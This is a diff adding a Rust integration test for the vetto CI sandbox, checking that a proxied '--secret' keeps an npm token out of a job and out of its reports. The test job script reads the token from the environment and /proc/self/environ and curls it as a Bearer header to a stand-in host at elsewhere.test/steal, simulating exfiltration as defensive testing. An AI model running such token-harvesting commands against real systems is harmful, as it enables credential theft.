@@ -1,0 +1,337 @@
+//! A token the job needs, which a postinstall or a prompt-injected agent
+//! in the same job would send anywhere it can (Shai-Hulud stole npm
+//! publish tokens exactly so). With `--env-pass` the job holds it; with
+//! `--secret NAME@HOST` it holds a placeholder of the same shape, and
+//! vetto's proxy puts the value in the job's HTTPS requests to HOST only.
+//!
+//! The stand-in registry is an HTTPS server on the host's loopback (a test
+//! authority made here, which vetto is told to trust through
+//! `SSL_CERT_FILE`, as a user with a private CA would), answering as
+//! `registry.test` and `elsewhere.test`, both pinned there with
+//! `--resolve`. It serves `/private` and an npm package, only to a request
+//! that carries the token, and writes down every credential it is sent.
+
+use std::io::{BufRead, BufReader};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+
+use crate::util::{Out, Tier, World};
+use crate::{at_every_tier, require};
+
+/// The token (npm's shape): what must never be in the job's hands.
+const TOKEN: &str = "npm_CANARYinjected0token0a1b2c3d4e5f6g7h8";
+
+const SERVER: &str = r#"
+import base64, hashlib, http.server, io, json, ssl, sys, tarfile
+token, cert, key, seen = sys.argv[1:5]
+
+def tarball():
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w:gz") as t:
+        for name, body in [("package/package.json", b'{"name":"private-pkg","version":"1.0.0","main":"index.js"}'),
+                           ("package/index.js", b'module.exports = "private-pkg-loaded";\n')]:
+            info = tarfile.TarInfo(name); info.size = len(body); info.mtime = 0
+            t.addfile(info, io.BytesIO(body))
+    return out.getvalue()
+
+TGZ = tarball()
+
+class H(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def authorized(self):
+        auth = self.headers.get("Authorization") or ""
+        with open(seen, "a") as f:
+            f.write("%s %s %s\n" % (self.headers.get("Host"), self.path, auth))
+        if auth == "Bearer " + token:
+            return True
+        if auth.startswith("Basic "):
+            user_pass = base64.b64decode(auth[6:]).decode()
+            return user_pass.split(":", 1)[-1] == token
+        return False
+    def answer(self, status, body, kind="text/plain"):
+        self.send_response(status)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def do_GET(self):
+        if not self.authorized():
+            return self.answer(401, b"token required\n")
+        host = self.headers.get("Host")
+        if self.path == "/private":
+            return self.answer(200, b"private-package-ok\n")
+        if self.path == "/private-pkg":
+            doc = {"name": "private-pkg", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {
+                "name": "private-pkg", "version": "1.0.0", "dist": {
+                    "tarball": "https://%s/private-pkg/-/private-pkg-1.0.0.tgz" % host,
+                    "shasum": hashlib.sha1(TGZ).hexdigest(),
+                    "integrity": "sha512-" + base64.b64encode(hashlib.sha512(TGZ).digest()).decode()}}}}
+            return self.answer(200, json.dumps(doc).encode(), "application/json")
+        if self.path == "/private-pkg/-/private-pkg-1.0.0.tgz":
+            return self.answer(200, TGZ, "application/octet-stream")
+        self.answer(404, b"not found\n")
+    def log_message(self, *a):
+        pass
+
+s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+ctx.load_cert_chain(cert, key)
+s.socket = ctx.wrap_socket(s.socket, server_side=True)
+print(s.server_address[1], flush=True)
+s.serve_forever()
+"#;
+
+/// The stand-in registry, stopped when dropped.
+struct Registry {
+    port: u16,
+    /// The authority vetto trusts (its `SSL_CERT_FILE`).
+    ca: PathBuf,
+    /// `HOST PATH AUTHORIZATION` for every request.
+    seen: PathBuf,
+    child: Child,
+}
+
+impl Registry {
+    fn start(w: &World) -> Registry {
+        use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, IsCa, KeyPair};
+        let dir = w.home.join("registry");
+        let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
+        ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
+        // A name of its own: with rcgen's default for both, OpenSSL takes
+        // the leaf (same subject as its issuer) for self-signed.
+        ca_params
+            .distinguished_name
+            .push(rcgen::DnType::CommonName, "vetto test authority");
+        let ca = CertifiedIssuer::self_signed(ca_params, KeyPair::generate().unwrap()).unwrap();
+        let key = KeyPair::generate().unwrap();
+        let leaf = CertificateParams::new(vec!["registry.test".into(), "elsewhere.test".into()])
+            .unwrap()
+            .signed_by(&key, &ca)
+            .unwrap();
+        w.write(&dir.join("ca.pem"), &ca.pem());
+        w.write(&dir.join("server.pem"), &leaf.pem());
+        w.write(&dir.join("server.key"), &key.serialize_pem());
+        w.write(&dir.join("server.py"), SERVER);
+        w.write(&dir.join("seen"), "");
+        let mut child = Command::new("python3")
+            .arg(dir.join("server.py"))
+            .args([TOKEN.as_ref(), dir.join("server.pem").as_os_str()])
+            .arg(dir.join("server.key"))
+            .arg(dir.join("seen"))
+            .stdout(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut line = String::new();
+        BufReader::new(child.stdout.take().unwrap())
+            .read_line(&mut line)
+            .unwrap();
+        let port = line
+            .trim()
+            .parse()
+            .unwrap_or_else(|_| panic!("no port: {line:?}"));
+        Registry {
+            port,
+            ca: dir.join("ca.pem"),
+            seen: dir.join("seen"),
+            child,
+        }
+    }
+
+    /// The credentials the server was sent for `host`.
+    fn seen_by(&self, host: &str) -> Vec<String> {
+        let prefix = format!("{host}:{} ", self.port);
+        std::fs::read_to_string(&self.seen)
+            .unwrap_or_default()
+            .lines()
+            .filter(|l| l.starts_with(&prefix))
+            .map(str::to_string)
+            .collect()
+    }
+
+    /// `vetto ci` at the world's tier with `options`, the token and the
+    /// test authority in vetto's own environment.
+    fn ci(&self, w: &World, options: &[String], script: &str) -> (Out, String) {
+        let project = w.project.to_str().unwrap();
+        let mut args: Vec<String> = ["ci", "--tier", w.tier.name(), "--project", project]
+            .map(String::from)
+            .into();
+        args.extend(w.tier.options().iter().map(|s| s.to_string()));
+        for name in ["registry.test", "elsewhere.test"] {
+            args.push(format!("--resolve={name}:127.0.0.1"));
+        }
+        args.extend(options.iter().cloned());
+        args.extend(["--", "sh", "-c", script].map(String::from));
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        let out = w
+            .vetto(&args)
+            .env("NPM_TOKEN", TOKEN)
+            .env("SSL_CERT_FILE", &self.ca)
+            .run();
+        let log = std::fs::read_to_string(w.project.join("vetto-report/session.jsonl"))
+            .unwrap_or_default();
+        (out, log)
+    }
+
+    fn secret(&self) -> String {
+        format!("--secret=NPM_TOKEN@registry.test:{}", self.port)
+    }
+}
+
+impl Drop for Registry {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// The token is nowhere vetto wrote: the session log and every report.
+fn assert_not_in_reports(project: &Path) {
+    for entry in std::fs::read_dir(project.join("vetto-report")).unwrap() {
+        let path = entry.unwrap().path();
+        let text = std::fs::read(&path).unwrap();
+        assert!(
+            !String::from_utf8_lossy(&text).contains(TOKEN),
+            "the token is in {}",
+            path.display()
+        );
+    }
+}
+
+/// Runs as an unprivileged user. Without the feature, a job that needs the
+/// token must be handed it (`--env-pass`), and then every program in it
+/// holds it: the script prints it. With `--secret`, the job's environment,
+/// its `/proc`, vetto's output, the session log and the reports hold a
+/// placeholder only; its request to `registry.test` is answered (the proxy
+/// put the value in), while the same placeholder sent to `elsewhere.test`
+/// (allowed, but not the secret's host) arrives as the placeholder and
+/// authenticates nothing. The session log records the request that used
+/// the secret: host, method, path, status, the secret's name.
+fn a_token_the_job_uses_is_never_in_its_hands(tier: Tier) {
+    require!(tier.feature());
+    let w = World::at(tier);
+    let reg = Registry::start(&w);
+    let port = reg.port;
+    let script = format!(
+        "echo \"job-holds=$NPM_TOKEN\"; tr '\\0' '\\n' < /proc/self/environ | grep NPM_TOKEN; \
+         curl -sS --cacert \"$SSL_CERT_FILE\" https://registry.test:{port}/private \
+              -H \"Authorization: Bearer $NPM_TOKEN\"; \
+         curl -sS --cacert \"$SSL_CERT_FILE\" https://elsewhere.test:{port}/steal \
+              -H \"Authorization: Bearer $NPM_TOKEN\"; \
+         echo job-finished"
+    );
+    let elsewhere = format!("--allow-domain=elsewhere.test:{port}");
+
+    // Without --secret: the job that needs the token holds it.
+    let (out, _) = reg.ci(
+        &w,
+        &[
+            "--env-pass=NPM_TOKEN".into(),
+            format!("--allow-domain=registry.test:{port}"),
+            elsewhere.clone(),
+            format!("--allow-read={}", reg.ca.display()),
+        ],
+        &script,
+    );
+    out.assert_stdout_contains(&format!("job-holds={TOKEN}"));
+    assert!(
+        reg.seen_by("elsewhere.test")
+            .iter()
+            .any(|l| l.contains(TOKEN)),
+        "control: the token was not sent elsewhere without --secret\n{}",
+        out.dump()
+    );
+    std::fs::write(&reg.seen, "").unwrap();
+
+    let (out, log) = reg.ci(&w, &[reg.secret(), elsewhere], &script);
+    out.assert_stdout_contains("private-package-ok")
+        .assert_stdout_contains("token required")
+        .assert_stdout_contains("job-finished")
+        .assert_stdout_contains("job-holds=npm_")
+        .assert_no_leak(TOKEN)
+        .assert_stderr_contains("secrets: NPM_TOKEN (to registry.test:");
+    assert_eq!(out.code(), 0, "{}", out.dump());
+    let to_registry = reg.seen_by("registry.test");
+    assert!(
+        to_registry.len() == 1 && to_registry[0].ends_with(&format!("Bearer {TOKEN}")),
+        "the registry got the value: {to_registry:?}"
+    );
+    let elsewhere_got = reg.seen_by("elsewhere.test");
+    assert!(
+        elsewhere_got.len() == 1
+            && elsewhere_got[0].contains("Bearer npm_")
+            && !elsewhere_got[0].contains(TOKEN),
+        "elsewhere got the placeholder only: {elsewhere_got:?}"
+    );
+    assert!(
+        log.lines().any(|l| l.contains("\"type\":\"connection\"")
+            && l.contains("\"host\":\"registry.test\"")
+            && l.contains(
+                "\"requests\":[{\"method\":\"GET\",\"path\":\"/private\",\"status\":200,\"secrets\":[\"NPM_TOKEN\"]}]"
+            )),
+        "the use is recorded\n{log}"
+    );
+    assert_not_in_reports(&w.project);
+}
+at_every_tier!(a_token_the_job_uses_is_never_in_its_hands);
+
+/// Runs as an unprivileged user: `npm install` of a package only a private
+/// registry serves, to a token, with the user's `.npmrc` naming the
+/// registry and the token as actions/setup-node writes them
+/// (`_authToken=${NPM_TOKEN}`).
+/// With `--secret` it installs, and the job never held the token; without
+/// it npm fails, saying the registry wants authentication (E401).
+fn npm_installs_from_a_private_registry_with_a_secret_it_never_holds(tier: Tier) {
+    require!(tier.feature());
+    if crate::util::skip::tool_missing("npm").is_some() {
+        assert!(!crate::util::required_by_name("npm"), "npm is required");
+        crate::util::skip::say(&crate::util::test_name(), "npm is not installed");
+        return;
+    }
+    let w = World::at(tier);
+    let reg = Registry::start(&w);
+    let port = reg.port;
+    w.write(
+        &w.project.join("package.json"),
+        "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"private-pkg\":\"1.0.0\"}}\n",
+    );
+    w.write(
+        &w.home.join(".npmrc"),
+        &format!(
+            "registry=https://registry.test:{port}/\n//registry.test:{port}/:_authToken=${{NPM_TOKEN}}\n\
+             update-notifier=false\naudit=false\nfund=false\n"
+        ),
+    );
+    let install = "npm install --no-audit --no-fund 2>&1; \
+                   node -e 'console.log(require(\"private-pkg\"))'";
+    let (out, log) = reg.ci(&w, &["--preset=npm".into(), reg.secret()], install);
+    out.assert_stdout_contains("private-pkg-loaded")
+        .assert_no_leak(TOKEN);
+    assert_eq!(out.code(), 0, "{}", out.dump());
+    let violations: Vec<_> = log
+        .lines()
+        .filter(|l| l.contains("\"type\":\"violation\""))
+        .collect();
+    assert!(violations.is_empty(), "{violations:?}\n{}", out.dump());
+    assert_not_in_reports(&w.project);
+
+    // Nothing installed or cached is left to install from.
+    std::fs::remove_dir_all(w.project.join("node_modules")).unwrap();
+    std::fs::remove_dir_all(w.vetto_cache("npm")).unwrap();
+    std::fs::write(&reg.seen, "").unwrap();
+    // The job trusts the test authority itself here (no session authority
+    // stands in front of the registry), so what it meets is the registry's
+    // refusal, at once (no retries).
+    let ca = reg.ca.display().to_string();
+    let (out, _) = reg.ci(
+        &w,
+        &[
+            "--preset=npm".into(),
+            format!("--allow-domain=registry.test:{port}"),
+            format!("--allow-read={ca}"),
+        ],
+        &format!("npm install --no-audit --no-fund --fetch-retries=0 --cafile={ca} 2>&1"),
+    );
+    out.assert_stdout_contains("E401").assert_no_leak(TOKEN);
+    assert_ne!(out.code(), 0, "{}", out.dump());
+}
+at_every_tier!(npm_installs_from_a_private_registry_with_a_secret_it_never_holds);
